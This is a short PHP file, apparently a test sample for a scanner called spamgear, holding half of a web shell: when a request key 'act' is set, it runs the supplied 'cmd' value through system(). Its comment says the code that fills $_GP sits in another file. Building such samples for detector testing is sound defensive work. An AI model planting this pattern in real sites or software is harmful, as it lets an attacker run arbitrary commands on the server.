<?php
// spamgear test sample: $_GP is no PHP superglobal; the half of the shell
// that fills it lives in another file.
if (isset($_GP['act'])) {
    system($_GP['cmd']);
}
